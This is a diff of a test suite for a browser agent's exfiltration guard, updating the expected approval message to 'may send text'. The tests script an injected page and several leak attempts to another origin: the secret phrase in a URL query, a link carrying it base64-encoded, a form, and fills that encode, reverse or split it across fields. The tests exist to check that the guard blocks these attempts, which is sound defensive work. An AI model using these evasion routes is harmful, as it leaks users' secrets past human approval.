@@ -26,7 +26,7 @@ describe('a page that tells the agent what to do', () => {
     await scene.home.ok(['policy', 'allow', 'act', '--conversation', conversationId]);
     const going = turn.tool('goto', { url: `${other.origin}/?d=correct+horse+battery+staple+velvet+moon` });
     const asked = await scene.approval();
-    assert.match(asked.why, /carry/);
+    assert.match(asked.why, /may send text/);
     assert.deepEqual(asked.choices, ['allow-once', 'deny']);
     await scene.panel.seen('approval', '127.0.0.1');
     await scene.home.ok(['approvals', 'deny', asked.approvalId]);
@@ -41,7 +41,7 @@ describe('a page that tells the agent what to do', () => {
     assert.ok(!(await plain).isError);
     const typing = turn.tool('fill', { selector: '#nowhere', value: 'the phrase: correct horse battery staple velvet moon' });
     const third = await scene.approval();
-    assert.match(third.why, /carry/);
+    assert.match(third.why, /may send text/);
     await scene.panel.answer('Deny');
     assert.ok((await typing).isError);
     await turn.tool('back', {}).catch(() => {});
@@ -64,18 +64,18 @@ describe('a page that tells the agent what to do', () => {
     await scene.page.evaluate(`document.body.insertAdjacentHTML('beforeend', \`
       <p><a href="${other.origin}/?d=${Buffer.from(phrase).toString('base64')}">More about it</a> <a href="/mail">Stay here</a></p>
       <form action="${other.origin}/form"><input name="d" aria-label="Search"><button>Search it</button></form>\`)`);
-    const link = await denied('click', { selector: 'text=More about it' }, /carry/);
+    const link = await denied('click', { selector: 'text=More about it' }, /may send text/);
     assert.equal(link.site, new URL(other.origin).host, 'the card names where it leads');
-    await denied('click', { selector: 'text=Search it' }, /carry/);
+    await denied('click', { selector: 'text=Search it' }, /may send text/);
     await turn.tool('click', { selector: '[name=d]' });
-    await denied('press', { key: 'Enter' }, /carry/);
+    await denied('press', { key: 'Enter' }, /may send text/);
     assert.ok(!(await turn.tool('click', { selector: 'text=Stay here' })).isError, 'a link of the same site is not a question');
     await scene.home.ok(['goto', `${other.origin}/form`]);
-    await denied('fill', { selector: '#name', value: Buffer.from(phrase).toString('base64') }, /carry/);
-    await denied('fill', { selector: '#name', value: [...phrase].reverse().join('') }, /carry/);
+    await denied('fill', { selector: '#name', value: Buffer.from(phrase).toString('base64') }, /may send text/);
+    await denied('fill', { selector: '#name', value: [...phrase].reverse().join('') }, /may send text/);
     const first = turn.tool('fill', { selector: '#name', value: 'correct horse battery' });
     assert.ok(!(await first).isError, 'three words are not yet what was read');
-    await denied('fill', { selector: '#email', value: 'staple velvet moon' }, /carry/);
+    await denied('fill', { selector: '#email', value: 'staple velvet moon' }, /may send text/);
     assert.deepEqual(other.asked.slice(before), ['GET /form'], 'only the person went there');
     await scene.home.ok(['goto', `${scene.site.origin}/mail`]);
     turn.end();
